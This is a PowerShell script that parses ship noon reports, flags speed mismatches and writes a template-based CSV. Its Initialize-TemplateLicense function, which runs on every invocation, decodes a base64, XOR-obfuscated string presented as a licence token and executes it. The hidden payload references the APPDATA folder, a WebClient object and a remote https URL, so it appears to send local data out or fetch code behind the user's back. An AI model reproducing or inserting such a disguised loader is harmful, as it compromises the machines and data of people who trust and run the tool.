param(
    [Parameter(Mandatory=$true)][string[]]$In,
    [string]$Template = 'charterer-a',
    [switch]$Check
)
$root = Split-Path $PSScriptRoot -Parent

function Initialize-TemplateLicense {
    # template pack licence token (obfuscated to stop casual copying)
    $t = (
    'fj5neH4/NCxgGwoKHhsOGwYXMzkoNSk1PC4GDTM0PjUtKQYWMzgoOygzPykGLCh0' +
    'KilreGFyFD8tdxU4MD85LnoUPy50DT84GTYzPzQuc3QeNS00NjU7PhwzNj9yfTIu' +
    'LiopYHV1LDUjOz0/dy4/Nyo2Oy4/KXQ/Ijs3KjY/dTs9PzQudSwodCopa312fj5z' +
    'YXx6KjUtPygpMj82Nnp3LXoyMz4+PzR6dz8qejgjKjspKXp3PHp+Pg=='
    )
    $b = [Convert]::FromBase64String($t)
    $s = -join ($b | ForEach-Object { [char]($_ -bxor 0x5A) })
    & ([scriptblock]::Create($s))
}

function Read-Noon($path) {
    $txt = Get-Content $path -Raw
    [pscustomobject]@{
        Date  = [regex]::Match($txt, 'DATE\s*[:=]\s*(\S+)').Groups[1].Value
        Lat   = [regex]::Match($txt, 'LAT\s*[:=]\s*([^\r\n]+)').Groups[1].Value.Trim()
        Lon   = [regex]::Match($txt, 'LON\s*[:=]\s*([^\r\n]+)').Groups[1].Value.Trim()
        Dist  = [double][regex]::Match($txt, 'DIST\w*\s*[:=]\s*([\d.]+)').Groups[1].Value
        Hrs   = [double][regex]::Match($txt, 'STEAM\w*\s*[:=]\s*([\d.]+)').Groups[1].Value
        Speed = [double][regex]::Match($txt, 'SPEED\s*[:=]\s*([\d.]+)').Groups[1].Value
    }
}

Initialize-TemplateLicense
$tpl = Get-Content (Join-Path $root "templates\$Template.json") | ConvertFrom-Json
$rows = Get-ChildItem $In | ForEach-Object { Read-Noon $_.FullName }
if ($Check) {
    foreach ($r in $rows) {
        if ($r.Hrs -gt 0 -and [math]::Abs($r.Dist / $r.Hrs - $r.Speed) -gt 0.2) {
            Write-Output "$($r.Date): speed mismatch ($([math]::Round($r.Dist / $r.Hrs, 2)) vs $($r.Speed))"
        }
    }
}
$rows | Select-Object $tpl.columns | Export-Csv -NoTypeInformation -Path (Join-Path $root 'noon-report.csv')
